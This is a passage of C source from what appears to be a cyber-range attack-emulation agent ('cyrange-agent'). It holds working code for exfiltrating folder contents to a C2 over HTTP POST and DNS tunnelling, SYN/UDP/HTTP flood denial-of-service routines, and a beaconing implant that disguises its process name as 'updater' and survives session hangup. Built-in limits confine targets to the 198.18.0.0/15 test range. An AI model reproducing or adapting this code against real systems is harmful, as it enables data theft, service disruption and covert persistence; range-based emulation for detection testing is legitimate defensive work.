        http_read(&c, &h, 0, limit + 1, file_sink_write, &fs, until) < 0) {
        act_detail(r, "GET %s: %s", url, errname(c.err ? c.err : EPROTO));
        goto done;
    }
    if (h.status < 200 || h.status > 299) {
        act_detail(r, "GET %s: HTTP %d", url, h.status);
        goto done;
    }
    if (h.truncated || h.body > limit) {
        act_detail(r, "GET %s: larger than the %lld-byte limit", url, limit);
        goto done;
    }
    if (!h.complete) {
        act_detail(r, "GET %s: transfer cut after %lld bytes (%s)", url,
                   h.body, errname(c.err ? c.err : EPROTO));
        goto done;
    }
    if (close(fs.fd) < 0 || rename(tmp, dest) < 0) {
        fs.fd = -1;
        act_detail(r, "cannot save %s: %s", path, strerror(errno));
        goto done;
    }
    fs.fd = -1;
    ok = 1;
    act_detail(r, "fetched %s (%lld bytes) to %s", url, h.body, path);

done:
    if (fs.fd >= 0)
        close(fs.fd);
    if (!ok)
        unlink(tmp);
    conn_close(&c, r);
    r->succeeded = ok;
    json_object_set_new(r->evidence, "url", json_string(url));
    json_object_set_new(r->evidence, "path", json_string(path));
    json_object_set_new(r->evidence, "status", json_integer(h.status));
    json_object_set_new(r->evidence, "bytes", json_integer(h.body));
    http_resp_free(&h);
    return 0;
}

/* ---- exfil --------------------------------------------------------------- */

typedef struct exfil_buf {
    char *data;
    size_t len, want;
    long long files;
    long long source_bytes;
} exfil_buf;

static void exfil_append(exfil_buf *x, const char *p, size_t n)
{
    if (n > x->want - x->len)
        n = x->want - x->len;
    memcpy(x->data + x->len, p, n);
    x->len += n;
}

/* The files of a folder (or one file), each behind a "==> name <==" line,
 * up to x->want bytes, 1000 files, 4 levels deep. */
static void exfil_walk(exfil_buf *x, const char *path, const char *shown,
                       int depth)
{
    struct stat st;
    char child[PATH_MAX], cshown[PATH_MAX], hdr[PATH_MAX + 16], buf[16384];
    struct dirent **list = NULL;
    int n, i, fd;

    if (x->len >= x->want || x->files >= 1000 || lstat(path, &st) < 0)
        return;
    if (S_ISREG(st.st_mode)) {
        fd = open(path, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
        if (fd < 0)
            return;
        x->files++;
        snprintf(hdr, sizeof(hdr), "==> %s <==\n", shown);
        exfil_append(x, hdr, strlen(hdr));
        while (x->len < x->want) {
            ssize_t k = read(fd, buf, sizeof(buf));
            if (k <= 0)
                break;
            x->source_bytes += k;
            exfil_append(x, buf, (size_t)k);
        }
        close(fd);
        return;
    }
    if (!S_ISDIR(st.st_mode) || depth >= 4)
        return;
    n = scandir(path, &list, NULL, alphasort);
    for (i = 0; i < n; i++) {
        if (strcmp(list[i]->d_name, ".") != 0 &&
            strcmp(list[i]->d_name, "..") != 0 &&
            snprintf(child, sizeof(child), "%s/%s", path, list[i]->d_name) <
                (int)sizeof(child) &&
            snprintf(cshown, sizeof(cshown), "%s/%s", shown,
                     list[i]->d_name) < (int)sizeof(cshown))
            exfil_walk(x, child, cshown, depth + 1);
        free(list[i]);
    }
    free(list);
}

/* Exactly `want` bytes: the source's files first, then made-up records
 * (what a real dump of a customer table would look like on the wire). */
static int exfil_data(const act_req *q, exfil_buf *x, char *err, size_t len)
{
    const char *source = act_param_str(q, "source", NULL);
    char path[PATH_MAX], line[160];
    rng g;

    x->data = malloc(x->want ? x->want : 1);
    if (x->data == NULL) {
        snprintf(err, len, "out of memory");
        return -1;
    }
    if (source != NULL) {
        if (act_path(q, source, path, sizeof(path)) < 0 ||
            access(path, R_OK) < 0) {
            snprintf(err, len, "cannot read %s: %s", source, strerror(errno));
            return -1;
        }
        exfil_walk(x, path, source, 0);
    }
    rng_seed(&g, q->seed, "exfil");
    while (x->len < x->want) {
        snprintf(line, sizeof(line), "%06u,customer-%05u,%u-%04u-%04u,%u.%02u\n",
                 (unsigned)rng_below(&g, 1000000), (unsigned)rng_below(&g, 100000),
                 (unsigned)rng_below(&g, 90) + 10, (unsigned)rng_below(&g, 10000),
                 (unsigned)rng_below(&g, 10000), (unsigned)rng_below(&g, 100000),
                 (unsigned)rng_below(&g, 100));
        exfil_append(x, line, strlen(line));
    }
    return 0;
}

static int exfil_http(const act_req *q, act_result *r, exfil_buf *x)
{
    const char *proxy = act_param_str(q, "proxy", NULL);
    const char *domain = act_param_str(q, "domain", q->c2_domain);
    int port = (int)act_param_int(q, "port", q->c2_port ? q->c2_port : 80);
    long long stop_at = act_stop_at(q);
    long long until = min_ll(stop_at, act_now_ms() + 120 * SEC);
    char paddr[64], head[600];
    const char *caddr = q->target_addr;
    int cport = port, via = proxy != NULL, answered = 0;
    long long body_sent = 0;
    http_resp h;
    net_conn c;

    memset(&h, 0, sizeof(h));
    conn_init(&c);
    if (via) {
        if (hostport_split(proxy, paddr, sizeof(paddr), &cport) < 0) {
            act_detail(r, "bad proxy %s", proxy);
            return -1;
        }
        caddr = paddr;
    }
    if (conn_open(&c, caddr, cport, until) < 0) {
        act_detail(r, "POST to %s:%d: %s", caddr, cport, errname(c.err));
        goto done;
    }
    /* Through a proxy the absolute URI names the C2 (by its domain when
     * there is one, as malware configured with a URL does). */
    http_request_line(head, sizeof(head), "POST",
                      domain ? domain : q->target_addr, port, "/upload", via);
    if (conn_sendf(&c, until, "%sUser-Agent: %s\r\nContent-Type: "
                   "application/octet-stream\r\nContent-Length: %zu\r\n"
                   "Connection: close\r\n\r\n", head, ACT_USER_AGENT,
                   x->len) < 0) {
        act_detail(r, "POST: %s", errname(c.err));
        goto done;
    }
    {
        long long before = c.tx;
        conn_send(&c, x->data, x->len, until);
        body_sent = c.tx - before;
    }
    if (http_read(&c, &h, 4096, 1024 * 1024, NULL, NULL,
                  min_ll(until, act_now_ms() + IO_TIMEOUT_MS)) == 0 &&
        !http_from_proxy(&h, via))
        answered = 1;
    if (answered && body_sent == (long long)x->len)
        act_detail(r, "%lld bytes POSTed to http://%s:%d/upload%s%s; the C2 "
                   "answered HTTP %d", body_sent, q->target_addr, port,
                   via ? " via proxy " : "", via ? proxy : "", h.status);
    else if (h.status > 0)
        act_detail(r, "%lld of %zu bytes POSTed%s%s; %s answered HTTP %d%s%s",
                   body_sent, x->len, via ? " via proxy " : "",
                   via ? proxy : "", answered ? "the C2" : "the proxy",
                   h.status, h.server[0] ? " " : "", h.server);
    else
        act_detail(r, "%lld of %zu bytes POSTed to %s:%d, no answer (%s)",
                   body_sent, x->len, caddr, cport,
                   errname(c.err ? c.err : EPROTO));
    r->succeeded = answered && body_sent == (long long)x->len;

done:
    conn_close(&c, r);
    json_object_set_new(r->evidence, "status", json_integer(h.status));
    json_object_set_new(r->evidence, "bytes_sent", json_integer(body_sent));
    if (via)
        json_object_set_new(r->evidence, "proxy", json_string(proxy));
    http_resp_free(&h);
    return 0;
}

/* ---- DNS ----------------------------------------------------------------- */

#define DNS_T_A 1
#define DNS_T_TXT 16

/* A query for name (dotted, labels <= 63); returns its length or -1. */
static int dns_query(unsigned char *buf, size_t cap, uint16_t id,
                     const char *name, uint16_t qtype)
{
    size_t o = 12, l;
    const char *p = name;

    if (cap < 12 + strlen(name) + 6 || strlen(name) > 253)
        return -1;
    memset(buf, 0, 12);
    buf[0] = (unsigned char)(id >> 8);
    buf[1] = (unsigned char)id;
    buf[2] = 0x01; /* recursion desired */
    buf[5] = 1;    /* one question */
    while (*p) {
        l = strcspn(p, ".");
        if (l == 0 || l > 63)
            return -1;
        buf[o++] = (unsigned char)l;
        memcpy(buf + o, p, l);
        o += l;
        p += l;
        if (*p == '.')
            p++;
    }
    buf[o++] = 0;
    buf[o++] = (unsigned char)(qtype >> 8);
    buf[o++] = (unsigned char)qtype;
    buf[o++] = 0;
    buf[o++] = 1; /* IN */
    return (int)o;
}

/* A UDP socket connected to addr:port. */
static int udp_open(const char *addr, int port, char *src, int *sport)
{
    struct sockaddr_in sa;
    socklen_t sl = sizeof(sa);
    int fd;

    if (sa_make(addr, port, &sa) < 0)
        return -1;
    fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
        close(fd);
        return -1;
    }
    if (getsockname(fd, (struct sockaddr *)&sa, &sl) == 0) {
        inet_ntop(AF_INET, &sa.sin_addr, src, INET_ADDRSTRLEN);
        *sport = ntohs(sa.sin_port);
    }
    return fd;
}

/* Counts answers to our queries (matching ids) waiting on fd. */
static void dns_drain(int fd, unsigned char *pending, long long *answers,
                      long long *rx, long long *pkts)
{
    unsigned char buf[1500];
    ssize_t n;

    while ((n = recv(fd, buf, sizeof(buf), 0)) >= 0 || errno == EINTR) {
        uint16_t id;
        if (n < 12)
            continue;
        id = (uint16_t)(buf[0] << 8 | buf[1]);
        (*pkts)++;
        *rx += n;
        if ((buf[2] & 0x80) && pending[id]) {
            (*answers)++;
            pending[id] = 0;
        }
    }
}

static int exfil_dns(const act_req *q, act_result *r, exfil_buf *x)
{
    static const char hex[] = "0123456789abcdef";
    const char *domain = act_param_str(q, "domain", q->c2_domain);
    int port = (int)act_param_int(q, "port", 53), sport = 0, fd;
    long long stop_at = act_stop_at(q), t0, sent = 0, answers = 0, tx = 0;
    long long rx = 0, pkts = 0, seq = 0, end;
    size_t off = 0, room, chunk;
    unsigned char *pending = NULL, pkt[600];
    char src[INET_ADDRSTRLEN] = "", name[300];
    rng g;

    /* Room for data labels: 253 - domain - a sequence label. */
    room = 253 - strlen(domain) - 8;
    chunk = room / 64 * 31;
    if (chunk == 0) {
        act_detail(r, "domain %s is too long to carry data", domain);
        return -1;
    }
    pending = calloc(65536, 1);
    fd = pending ? udp_open(q->target_addr, port, src, &sport) : -1;
    if (fd < 0) {
        free(pending);
        act_detail(r, "UDP to %s:%d: %s", q->target_addr, port,
                   strerror(errno));
        return -1;
    }
    rng_seed(&g, q->seed, "dns-exfil");
    t0 = act_now_ms();
    while (off < x->len && act_now_ms() < stop_at) {
        size_t take = min_ll((long long)chunk, (long long)(x->len - off));
        size_t o = 0, i;
        uint16_t id = (uint16_t)rng_next(&g);
        int qlen;
        sleep_until(t0 + seq * 1000 / DNS_EXFIL_QPS);
        /* <hex label>.<hex label>….<seq>.<domain>: 31 bytes per label. */
        for (i = 0; i < take; i++) {
            if (i > 0 && i % 31 == 0)
                name[o++] = '.';
            name[o++] = hex[(unsigned char)x->data[off + i] >> 4];
            name[o++] = hex[(unsigned char)x->data[off + i] & 15];
        }
        o += (size_t)snprintf(name + o, sizeof(name) - o, ".%lld.%s", seq,
                              domain);
        qlen = dns_query(pkt, sizeof(pkt), id, name, DNS_T_A);
        if (qlen < 0)
            break;
        if (send(fd, pkt, (size_t)qlen, 0) == qlen) {
            pending[id] = 1;
            sent++;
            tx += qlen;
        }
        off += take;
        seq++;
        dns_drain(fd, pending, &answers, &rx, &pkts);
    }
    /* The last answers. */
    end = min_ll(stop_at, act_now_ms() + 2000);
    while (answers < sent && act_now_ms() < end) {
        struct pollfd p = {.fd = fd, .events = POLLIN};
        poll(&p, 1, (int)(end - act_now_ms() > 0 ? end - act_now_ms() : 0));
        dns_drain(fd, pending, &answers, &rx, &pkts);
    }
    close(fd);
    free(pending);
    act_flow_add(r, "udp", src, sport, q->target_addr, port, sent + pkts,
                 tx + rx);
    r->succeeded = answers > 0 && off >= x->len;
    json_object_set_new(r->evidence, "queries", json_integer(sent));
    json_object_set_new(r->evidence, "answers", json_integer(answers));
    json_object_set_new(r->evidence, "bytes_sent", json_integer((json_int_t)off));
    json_object_set_new(r->evidence, "domain", json_string(domain));
    act_detail(r, "%zu bytes in %lld DNS queries for *.%s to %s:%d; %lld "
               "answered", off, sent, domain, q->target_addr, port, answers);
    return 0;
}

int act_exfil(const act_req *q, act_result *r)
{
    const char *channel = act_param_str(q, "channel", "http");
    exfil_buf x;
    char err[300];
    int rc = -1;

    memset(&x, 0, sizeof(x));
    x.want = (size_t)act_param_int(q, "bytes", 1);
    if (exfil_data(q, &x, err, sizeof(err)) < 0) {
        act_detail(r, "%s", err);
        goto cleanup;
    }
    rc = strcmp(channel, "dns") == 0 ? exfil_dns(q, r, &x) :
                                       exfil_http(q, r, &x);
    json_object_set_new(r->evidence, "channel", json_string(channel));
    json_object_set_new(r->evidence, "bytes", json_integer((json_int_t)x.len));
    json_object_set_new(r->evidence, "source_bytes",
                        json_integer(x.source_bytes));
    json_object_set_new(r->evidence, "files", json_integer(x.files));
    if (act_param_str(q, "source", NULL) != NULL)
        json_object_set_new(r->evidence, "source",
                            json_string(act_param_str(q, "source", NULL)));

cleanup:
    free(x.data);
    return rc;
}

/* ---- dos.flood ----------------------------------------------------------- */

typedef struct flood_stats {
    long long slots;   /* packets or requests due so far (the bound) */
    long long sent;    /* of those, really sent */
    long long bytes, errors, replies;
    long long skipped; /* http: no free connection slot */
} flood_stats;

static int flood_syn(const act_req *q, act_result *r, int port, long long rate,
                     long long total, long long end, flood_stats *st)
{
    struct sockaddr_in src, dst;
    char srcs[INET_ADDRSTRLEN], err[256];
    long long t0 = act_now_ms();
    int fd, sp, dp, fl;
    rng g;

    fd = raw_open(q->target_addr, &dst, &src, err, sizeof(err));
    if (fd < 0) {
        act_detail(r, "SYN flood: %s", err);
        return -1;
    }
    inet_ntop(AF_INET, &src.sin_addr, srcs, sizeof(srcs));
    rng_seed(&g, q->seed, "syn-flood");
    while (st->slots < total) {
        long long now = act_now_ms(), due;
        if (now >= end)
            break;
        due = min_ll(total, (now - t0 + 1) * rate / 1000);
        /* Random source ports and sequence numbers; the source address is
         * always our own (the kernel writes it). */
        while (st->slots < due) {
            int sport = 1024 + (int)rng_below(&g, 64511);
            st->slots++;
            if (syn_send(fd, &src, &dst, sport, port,
                         (uint32_t)rng_next(&g)) == 0) {
                st->sent++;
                st->bytes += 44;
            } else {
                st->errors++;
            }
        }
        while (raw_recv(fd, &sp, &dp, &fl) == 1)
            if (sp == port)
                st->replies++;
        sleep_until(min_ll(end, now + 1));
    }
    close(fd);
    /* One record for the whole batch: every packet has its own port. */
    act_flow_add(r, "tcp", srcs, 0, q->target_addr, port,
                 st->sent + st->replies, 0);
    return 0;
}

static int flood_udp(const act_req *q, act_result *r, int port, long long rate,
                     long long total, long long end, flood_stats *st)
{
    char src[INET_ADDRSTRLEN] = "", payload[512];
    long long t0 = act_now_ms();
    int fd, sport = 0;
    size_t i;
    rng g;

    fd = udp_open(q->target_addr, port, src, &sport);
    if (fd < 0) {
        act_detail(r, "UDP to %s:%d: %s", q->target_addr, port,
                   strerror(errno));
        return -1;
    }
    rng_seed(&g, q->seed, "udp-flood");
    for (i = 0; i < sizeof(payload); i++)
        payload[i] = (char)rng_next(&g);
    while (st->slots < total) {
        long long now = act_now_ms(), due;
        if (now >= end)
            break;
        due = min_ll(total, (now - t0 + 1) * rate / 1000);
        while (st->slots < due) {
            st->slots++;
            /* A closed port answers with ICMP, which a connected socket
             * reports on the next send: count it, keep going. */
            if (send(fd, payload, sizeof(payload), 0) ==
                (ssize_t)sizeof(payload)) {
                st->sent++;
                st->bytes += (long long)sizeof(payload);
            } else {
                st->errors++;
            }
        }
        sleep_until(min_ll(end, now + 1));
    }
    close(fd);
    act_flow_add(r, "udp", src, sport, q->target_addr, port, st->sent,
                 st->bytes);
    return 0;
}

/* HTTP flood: `rate` new connections per second, each a GET whose answer
 * is read (and dropped) for up to 2 s; at most FLOOD_MAX_INFLIGHT open. */
static int flood_http(const act_req *q, act_result *r, int port,
                      long long rate, long long total, long long end,
                      flood_stats *st)
{
    struct {
        net_conn c;
        int sent_req;
        long long until;
    } *fl = NULL;
    struct pollfd pfd[FLOOD_MAX_INFLIGHT];
    const char *path = act_param_str(q, "path", "/");
    char head[1200], req[1600];
    long long t0 = act_now_ms();
    size_t nfl = 0, i;
    int reqlen;

    fl = calloc(FLOOD_MAX_INFLIGHT, sizeof(*fl));
    if (fl == NULL) {
        act_detail(r, "out of memory");
        return -1;
    }
    http_request_line(head, sizeof(head), "GET", q->target_addr, port, path, 0);
    reqlen = snprintf(req, sizeof(req), "%sUser-Agent: %s\r\nAccept: */*\r\n"
                      "Connection: close\r\n\r\n", head, ACT_USER_AGENT);
    for (;;) {
        long long now = act_now_ms(), due, wake;
        if (now < end && st->slots < total) {
            due = min_ll(total, (now - t0 + 1) * rate / 1000);
            while (st->slots < due) {
                st->slots++;
                if (nfl >= FLOOD_MAX_INFLIGHT) {
                    st->skipped++; /* the target is slower than the rate */
                    continue;
                }
                conn_init(&fl[nfl].c);
                if (conn_start(&fl[nfl].c, q->target_addr, port) < 0) {
                    st->errors++;
                    conn_close(&fl[nfl].c, r);
                    continue;
                }
                st->sent++;
                fl[nfl].sent_req = 0;
                fl[nfl].until = now + 2000;
                nfl++;
            }
        } else if (nfl == 0) {
            break;
        }
        wake = now < end && st->slots < total ? now + 1 : now + 100;
        for (i = 0; i < nfl; i++) {
            pfd[i].fd = fl[i].c.fd;
            pfd[i].events = fl[i].sent_req ? POLLIN : POLLOUT;
            pfd[i].revents = 0;
            wake = min_ll(wake, fl[i].until);
        }
        poll(pfd, nfl, wake > now ? (int)(wake - now) : 0);
        now = act_now_ms();
        for (i = 0; i < nfl;) {
            net_conn *c = &fl[i].c;
            int done = 0;
            if (pfd[i].revents && !fl[i].sent_req) {
                int e = 0;
                socklen_t el = sizeof(e);
                getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &e, &el);
                if (e != 0 || conn_send(c, req, (size_t)reqlen, now + 100) < 0) {
                    st->errors++;
                    done = 1;
                } else {
                    fl[i].sent_req = 1;
                    st->bytes += reqlen;
                }
            } else if (pfd[i].revents) {
                char buf[8192];
                ssize_t n = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
                if (n > 0) {
                    c->rx += n;
                } else if (n == 0 || (errno != EAGAIN && errno != EINTR)) {
                    st->replies += n == 0;
                    done = 1;
                }
            }
            if (!done && now >= fl[i].until) {
                if (c->rx > 0)
                    st->replies++;
                done = 1;
            }
            if (!done) {
                i++;
                continue;
            }
            conn_close(c, r);
            nfl--;
            fl[i] = fl[nfl];
            pfd[i] = pfd[nfl];
        }
    }
    free(fl);
    return 0;
}

int act_dos_flood(const act_req *q, act_result *r)
{
    const char *kind = act_param_str(q, "kind", "syn");
    int port = (int)act_param_int(q, "port", 80), rc;
    long long rate = act_param_int(q, "rate", 100);
    long long duration = act_param_ms(q, "duration", 10 * SEC);
    long long stop_at = act_stop_at(q), start = act_now_ms(), end, ran;
    /* The bound: never more than rate x duration packets or requests. */
    long long total = rate * duration / 1000;
    flood_stats st;

    memset(&st, 0, sizeof(st));
    end = min_ll(stop_at, start + duration);
    if (strcmp(kind, "syn") == 0)
        rc = flood_syn(q, r, port, rate, total, end, &st);
    else if (strcmp(kind, "udp") == 0)
        rc = flood_udp(q, r, port, rate, total, end, &st);
    else
        rc = flood_http(q, r, port, rate, total, end, &st);
    if (rc < 0)
        return -1;
    ran = act_now_ms() - start;
    json_object_set_new(r->evidence, "kind", json_string(kind));
    json_object_set_new(r->evidence, "port", json_integer(port));
    json_object_set_new(r->evidence, "rate", json_integer(rate));
    json_object_set_new(r->evidence, "duration_ms", json_integer(ran));
    json_object_set_new(r->evidence, "planned", json_integer(total));
    json_object_set_new(r->evidence, "packets_sent", json_integer(st.sent));
    json_object_set_new(r->evidence, "bytes_sent", json_integer(st.bytes));
    json_object_set_new(r->evidence, "errors", json_integer(st.errors));
    json_object_set_new(r->evidence, "replies", json_integer(st.replies));
    if (st.skipped > 0)
        json_object_set_new(r->evidence, "skipped", json_integer(st.skipped));
    r->succeeded = st.sent > 0 && end == start + duration;
    act_detail(r, "%s flood of %s:%d: %lld %s in %lld ms (%lld/s planned), "
               "%lld errors, %lld replies", kind, q->target_addr, port,
               st.sent, strcmp(kind, "http") == 0 ? "requests" : "packets",
               ran, rate, st.errors, st.replies);
    return 0;
}

/* ---- c2.beacon and the implant ------------------------------------------- */

typedef struct implant_cfg {
    char step[72];
    char channel[8];
    char c2[INET_ADDRSTRLEN];
    int port;
    char domain[256];
    char proxy[64];
    char id[64];
    char root[PATH_MAX];
    long long interval, jitter, count, duration;
    uint64_t seed;
} implant_cfg;

typedef struct beacon_res {
    int answered;
    int status;           /* HTTP status, or the DNS rcode */
    char error[96];
    char src[INET_ADDRSTRLEN];
    int sport;
    char dst[INET_ADDRSTRLEN];
    int dport;
    long long packets, bytes;
} beacon_res;

static void beacon_http(const implant_cfg *k, long long seq, beacon_res *b)
{
    char paddr[64], path[200], head[600];
    const char *caddr = k->c2;
    int cport = k->port, via = k->proxy[0] != '\0';
    long long until = act_now_ms() + IO_TIMEOUT_MS;
    http_resp h;
    net_conn c;

    memset(&h, 0, sizeof(h));
    conn_init(&c);
    if (via && hostport_split(k->proxy, paddr, sizeof(paddr), &cport) == 0)
        caddr = paddr;
    if (conn_open(&c, caddr, cport, until) == 0) {
        snprintf(path, sizeof(path), "/beacon?id=%s&seq=%lld", k->id, seq);
        http_request_line(head, sizeof(head), "GET",
                          k->domain[0] ? k->domain : k->c2, k->port, path, via);
        if (conn_sendf(&c, until, "%sUser-Agent: %s\r\nAccept: */*\r\n"
                       "Connection: close\r\n\r\n", head, ACT_USER_AGENT) == 0 &&
            http_read(&c, &h, 512, 64 * 1024, NULL, NULL, until) == 0) {
            b->status = h.status;
            b->answered = !http_from_proxy(&h, via);
            if (!b->answered)
                snprintf(b->error, sizeof(b->error), "proxy answered HTTP %d%s%s",
                         h.status, h.server[0] ? " " : "", h.server);
        }
    }
    if (b->status == 0)
        snprintf(b->error, sizeof(b->error), "%s", errname(c.err ? c.err : EPROTO));
    http_resp_free(&h);
    snprintf(b->src, sizeof(b->src), "%s", c.src);
    b->sport = c.sport;
    snprintf(b->dst, sizeof(b->dst), "%s", caddr);
    b->dport = cport;
    conn_close(&c, NULL);
    b->packets = c.packets;
    b->bytes = c.tx + c.rx;
}

static void beacon_dns(const implant_cfg *k, long long seq, rng *g,
                       beacon_res *b)
{
    unsigned char pkt[600], ans[1500];
    char name[300];
    uint16_t id = (uint16_t)rng_next(g);
    long long until = act_now_ms() + 5000;
    int fd, len;

    snprintf(b->dst, sizeof(b->dst), "%s", k->c2);
    b->dport = k->port;
    snprintf(name, sizeof(name), "%lld.%s.%s", seq, k->id, k->domain);
    len = dns_query(pkt, sizeof(pkt), id, name, DNS_T_TXT);
    fd = len > 0 ? udp_open(k->c2, k->port, b->src, &b->sport) : -1;
    if (fd < 0) {
        snprintf(b->error, sizeof(b->error), "%s", errname(errno));
        return;
    }
    if (send(fd, pkt, (size_t)len, 0) == len) {
        b->packets++;
        b->bytes += len;
        while (!b->answered && act_now_ms() < until) {
            struct pollfd p = {.fd = fd, .events = POLLIN};
            ssize_t n;
            poll(&p, 1, (int)(until - act_now_ms() > 0 ? until - act_now_ms() : 0));
            n = recv(fd, ans, sizeof(ans), 0);
            if (n < 0 && errno != EAGAIN && errno != EINTR) {
                snprintf(b->error, sizeof(b->error), "%s", errname(errno));
                break;
            }
            if (n >= 12 && (ans[2] & 0x80) && (uint16_t)(ans[0] << 8 | ans[1]) == id) {
                b->answered = 1;
                b->status = ans[3] & 15;
                b->packets++;
                b->bytes += n;
            }
        }
    } else {
        snprintf(b->error, sizeof(b->error), "%s", errname(errno));
    }
    if (!b->answered && b->error[0] == '\0')
        snprintf(b->error, sizeof(b->error), "no answer");
    close(fd);
}

/* The pid in a pid file ("PID STARTTIME"), 0 when there is none. */
static long read_pid(const char *path)
{
    char buf[64];
    ssize_t n;
    int fd = open(path, O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        return 0;
    n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    return atol(buf) > 0 ? atol(buf) : 0;
}

static int implant_file(const char *root, const char *step, const char *ext,
                        char *out, size_t len)
{
    int n = snprintf(out, len, "%s%s/implant-%s.%s", root, ACT_RUN_DIR, step,
                     ext);

    return (n < 0 || (size_t)n >= len) ? -1 : 0;
}

static void status_write(const implant_cfg *k, long long seq,
                         const beacon_res *b)
{
    char path[PATH_MAX], tmp[PATH_MAX + 8];
    json_t *o = NULL;

    if (implant_file(k->root, k->step, "status", path, sizeof(path)) < 0)
        return;
    snprintf(tmp, sizeof(tmp), "%s.tmp", path);
    o = json_pack("{s:I, s:b, s:i, s:s, s:s, s:i, s:s, s:i, s:I, s:I, s:I}",
                  "seq", (json_int_t)seq, "answered", b->answered, "status",
                  b->status, "error", b->error, "src", b->src, "sport",
                  b->sport, "dst", b->dst, "dport", b->dport, "packets",
                  (json_int_t)b->packets, "bytes", (json_int_t)b->bytes,
                  "time_ms", (json_int_t)act_wall_ms());
    if (o != NULL && json_dump_file(o, tmp, JSON_COMPACT) == 0)
        rename(tmp, path);
    json_decref(o);
}

static volatile sig_atomic_t implant_stop;

static void implant_on_signal(int sig)
{
    (void)sig;
    implant_stop = 1;
}

static int implant_usage(const char *why)
{
    fprintf(stderr, "cyrange-agent --implant: %s\n"
            "usage: --implant --step S --channel http|dns --c2 ADDR "
            "[--port N] [--domain D] [--proxy ADDR:PORT] --interval MS "
            "[--jitter MS] [--count N] [--duration MS] [--seed N] "
            "[--root DIR] [--id NAME]\n", why);
    return 2;
}

static int implant_parse(int argc, char **argv, implant_cfg *k)
{
    int i;

    memset(k, 0, sizeof(*k));
    for (i = 0; i + 1 < argc; i += 2) {
        const char *o = argv[i], *v = argv[i + 1];
        if (strcmp(o, "--step") == 0)
            snprintf(k->step, sizeof(k->step), "%s", v);
        else if (strcmp(o, "--channel") == 0)
            snprintf(k->channel, sizeof(k->channel), "%s", v);
        else if (strcmp(o, "--c2") == 0)
            snprintf(k->c2, sizeof(k->c2), "%s", v);
        else if (strcmp(o, "--port") == 0)
            k->port = atoi(v);
        else if (strcmp(o, "--domain") == 0)
            snprintf(k->domain, sizeof(k->domain), "%s", v);
        else if (strcmp(o, "--proxy") == 0)
            snprintf(k->proxy, sizeof(k->proxy), "%s", v);
        else if (strcmp(o, "--interval") == 0)
            k->interval = atoll(v);
        else if (strcmp(o, "--jitter") == 0)
            k->jitter = atoll(v);
        else if (strcmp(o, "--count") == 0)
            k->count = atoll(v);
        else if (strcmp(o, "--duration") == 0)
            k->duration = atoll(v);
        else if (strcmp(o, "--seed") == 0)
            k->seed = strtoull(v, NULL, 10);
        else if (strcmp(o, "--root") == 0)
            snprintf(k->root, sizeof(k->root), "%s", v);
        else if (strcmp(o, "--id") == 0)
            snprintf(k->id, sizeof(k->id), "%s", v);
        else
            return implant_usage("unknown option");
    }
    if (i != argc)
        return implant_usage("an option lacks its value");
    if (k->step[0] == '\0' || strchr(k->step, '/') != NULL)
        return implant_usage("--step is missing");
    if (strcmp(k->channel, "http") != 0 && strcmp(k->channel, "dns") != 0)
        return implant_usage("--channel must be http or dns");
    /* The implant obeys the range rule on its own, whoever started it. */
    if (!proto_addr_in_range(k->c2))
        return implant_usage("--c2 must be an address inside 198.18.0.0/15");
    if (k->proxy[0] != '\0') {
        char host[64];
        int port;
        if (hostport_split(k->proxy, host, sizeof(host), &port) < 0 ||
            !proto_addr_in_range(host))
            return implant_usage("--proxy must be ADDR:PORT inside "
                                 "198.18.0.0/15");
    }
    if (strcmp(k->channel, "dns") == 0 && k->domain[0] == '\0')
        return implant_usage("the dns channel needs --domain");
    if (k->port == 0)
        k->port = strcmp(k->channel, "dns") == 0 ? 53 : 80;
    if (k->port < 1 || k->port > 65535)
        return implant_usage("--port must be 1..65535");
    if (k->interval < 1000 || k->interval > HOUR)
        return implant_usage("--interval must be 1000..3600000 ms");
    if (k->jitter < 0 || k->jitter > HOUR)
        return implant_usage("--jitter must be 0..3600000 ms");
    if (k->count < 0 || k->count > 10000 || k->duration < 0)
        return implant_usage("--count must be 0..10000, --duration >= 0");
    if (k->duration == 0 || k->duration > IMPLANT_MAX_MS)
        k->duration = IMPLANT_MAX_MS;
    if (k->id[0] == '\0')
        host_id(k->id, sizeof(k->id));
    return 0;
}

int agent_implant_main(int argc, char **argv)
{
    struct sigaction sa;
    char pidpath[PATH_MAX];
    implant_cfg k;
    long long start = act_now_ms(), seq;
    int rc;
    rng g;

    rc = implant_parse(argc, argv, &k);
    if (rc != 0)
        return rc;
    /* What ps and top show, as a real implant disguises itself. */
    prctl(PR_SET_NAME, "updater", 0, 0, 0);
    signal(SIGPIPE, SIG_IGN);
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = implant_on_signal;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    /* Outlives the shell or session that started it, as implants do. */
    signal(SIGHUP, SIG_IGN);
    if (act_pidfile_write(k.root, "implant", k.step, getpid()) < 0 ||
        implant_file(k.root, k.step, "pid", pidpath, sizeof(pidpath)) < 0)
        return 1;
    rng_seed(&g, k.seed, k.step);
    for (seq = 1; !implant_stop; seq++) {
        beacon_res b;
        long long wait, next;
        memset(&b, 0, sizeof(b));
        if (strcmp(k.channel, "dns") == 0)
            beacon_dns(&k, seq, &g, &b);
        else
            beacon_http(&k, seq, &b);
        status_write(&k, seq, &b);
        if ((k.count > 0 && seq >= k.count) ||
            act_now_ms() - start >= k.duration)
            break;
        /* interval +/- jitter, never below a second */
        wait = k.interval;
        if (k.jitter > 0)
            wait += (long long)rng_below(&g, (uint32_t)(2 * k.jitter + 1)) -
                    k.jitter;
        if (wait < 1000)
            wait = 1000;
        next = min_ll(act_now_ms() + wait, start + k.duration);
        while (!implant_stop && act_now_ms() < next) {
            long long left = next - act_now_ms();
            struct timespec ts = {left / 1000, (left % 1000) * 1000000L};
            nanosleep(&ts, NULL);
        }
        if (act_now_ms() - start >= k.duration)
            break;
    }
    /* Remove the pid file only while it is still ours. */
    if (read_pid(pidpath) == (long)getpid())
        unlink(pidpath);
    return 0;
}

/* Starts the implant as a daemon: double fork, its own session, argv[0]
